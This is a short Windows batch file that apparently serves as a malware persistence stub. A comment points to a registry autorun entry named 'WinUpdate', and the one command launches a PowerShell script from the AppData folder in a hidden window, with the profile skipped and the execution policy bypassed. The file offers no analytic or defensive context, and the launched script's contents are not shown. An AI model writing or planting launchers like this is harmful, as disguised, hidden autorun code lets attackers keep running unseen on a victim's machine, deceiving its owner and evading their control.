@echo off
REM HKCU\Software\Microsoft\Windows\CurrentVersion\Run\"WinUpdate"
powershell.exe -w hidden -nop -ep bypass -File "%APPDATA%\Microsoft\winupd.ps1"
